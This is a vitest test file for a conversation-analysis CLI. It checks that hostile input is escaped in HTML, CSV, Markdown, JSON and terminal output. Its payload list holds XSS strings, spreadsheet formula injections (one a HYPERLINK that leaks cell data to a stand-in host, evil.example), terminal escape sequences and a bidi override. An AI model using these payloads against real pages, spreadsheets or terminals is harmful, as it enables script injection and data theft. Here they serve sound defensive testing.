/**
 * Output safety, end to end: hostile text in the input (model names, conversation ids, file names)
 * goes through the real CLI into the terminal table, HTML, CSV, Markdown and JSON outputs, and none
 * of them lets it act: no markup or script in the page, no formula in a spreadsheet cell, no broken
 * Markdown table, no terminal escape sequence.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ACT_IDS, GROUNDING_ACT_IDS } from '../../src/model.js';
import { CSV_HEADER } from '../../src/report/csv.js';
import { tempDir } from '../helpers/cli.js';
import { parseCsv } from '../helpers/csv.js';
import { expectNoCrash, readSummary, runCli } from './helpers.js';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onfocus='alert(3)' x='",
  'javascript:alert(4)',
  '<a href="javascript:alert(5)">x</a>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1,2)',
  '-1+2',
  '@cmd',
  '\tTAB',
  'pipe | in | name',
  'line\nbreak | x',
  '`code` **bold** [link](javascript:alert(6))',
  '\u001b]0;title\u0007\u001b[31mred\u001b[0m',
  '\u202emirrored',
  '</td></tr></table><script>alert(7)</script>',
  '--></style><style>*{display:none}</style>',
];

function records(): string {
  return HOSTILE.map((model, i) =>
    JSON.stringify({
      id: `${model} #${i}`,
      model,
      messages: [
        { role: 'user', content: `<script>alert("turn ${i}")</script> ${model}` },
        { role: 'assistant', content: `Do you mean ${model}?` },
        { role: 'user', content: 'Yes.' },
      ],
    }),
  ).join('\n');
}

/** The tags the HTML report writes itself; any other tag in the page came from input. */
const OWN_TAGS = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'h3', 'p', 'section', 'div', 'figure', 'svg', 'line', 'text', 'rect', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'br', 'ul', 'li']);

describe('hostile input text in every output', () => {
  for (const by of ['model', 'conversation']) {
    it(`--by ${by}: the page, the spreadsheet, the Markdown, the JSON and the terminal show it as text only`, async () => {
      const dir = tempDir();
      const input = join(dir, 'hostile "<b>=1".jsonl');
      writeFileSync(input, records());
      const out = (ext: string) => join(dir, `report.${ext}`);
      const run = await runCli(['analyze', input, '--by', by, '--no-progress', '-o', out('json'), '-o', out('html'), '-o', out('csv'), '-o', out('md')], dir);
      expectNoCrash(run);
      expect(run.code, run.stderr).toBe(0);
      const summary = readSummary(out('json'));
      const values = summary.groups.map((g) => g.value);
      for (const m of HOSTILE) expect(values.some((v) => v.includes(m)), m).toBe(true);

      // HTML: only the report's own tags, no event handlers, links or scripts; the text is there, escaped.
      const page = readFileSync(out('html'), 'utf8');
      for (const tag of page.match(/<[^>]*>/g)!) {
        const name = /^<\/?([!\w]+)/.exec(tag)?.[1]?.toLowerCase();
        expect(OWN_TAGS.has(name ?? ''), tag).toBe(true);
        expect(tag, tag).not.toMatch(/\s(on\w+|src|href|xlink:href|action|formaction)\s*=/i);
      }
      expect(page).not.toMatch(/<script|<img|<a[\s>]|<iframe|<object|javascript:[^<]*"/i);
      expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
      expect(page.match(/<style>/g)).toHaveLength(1);

      // CSV: every row as wide as the header; no cell a spreadsheet would run as a formula.
      const rows = parseCsv(readFileSync(out('csv'), 'utf8'));
      expect(rows[0]).toEqual([...CSV_HEADER]);
      expect(rows.length).toBe(1 + summary.groups.length * (ACT_IDS.length + 1));
      for (const r of rows.slice(1)) {
        expect(r).toHaveLength(CSV_HEADER.length);
        for (const cell of r.slice(0, 3)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
        for (const cell of r.slice(3)) expect(cell, cell).toMatch(/^(-?\d+(\.\d+)?(e-?\d+)?)?$/);
      }
      expect(rows.some((r) => r[1] === `'=HYPERLINK("http://evil.example/?"&A1,"click")` || r[1]!.startsWith(`'=HYPERLINK(`))).toBe(true);

      // Markdown: every table keeps its width, whatever the names hold; nothing becomes markup.
      const md = readFileSync(out('md'), 'utf8');
      const tables: string[][] = [];
      let current: string[] = [];
      for (const l of md.split('\n')) {
        if (l.startsWith('|')) current.push(l);
        else if (current.length > 0) tables.push(current), (current = []);
      }
      expect(tables.length).toBeGreaterThan(0);
      // The grounding table (name, conversations, turns, the grounding acts, any, per 1k words, coordination) or the beyond-grounding one (six cells).
      for (const t of tables) expect([new Set([GROUNDING_ACT_IDS.length + 8]), new Set([6 + 2])]).toContainEqual(new Set(t.map((l) => l.split(/(?<!\\)\|/).length)));
      // Every group has a row in its role's grounding table and in its beyond-grounding table.
      expect(tables.flat().filter((l) => !l.includes('human baseline')).length).toBe(2 * summary.groups.length + 2 * tables.length);
      expect(md).not.toMatch(/(?<!\\)<(script|img|a)\b|(?<!\\)\]\(javascript:/i);
      expect(md).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);

      // Terminal: no escape sequence or bidi override reaches stdout or stderr.
      for (const stream of [run.stdout, run.stderr]) expect(stream).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    });
  }

  it('error messages quote hostile input without its control characters', async () => {
    const dir = tempDir();
    const input = join(dir, 'bad.jsonl');
    writeFileSync(input, `{"messages":[{"role":"user","content":"hi"}],"model":{"\\u001b[2J\\u001b]0;pwned\\u0007":1,"\\u202e":2}}\n\u001b[31m{not json\n`);
    const run = await runCli(['analyze', input, '--no-progress'], dir);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/bad\.jsonl:1 \(field `model`\): expected a string/);
    expect(run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const skipped = await runCli(['analyze', input, '--skip-invalid', '--no-progress'], dir);
    expect(skipped.code).toBe(0);
    expect(skipped.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  });
});
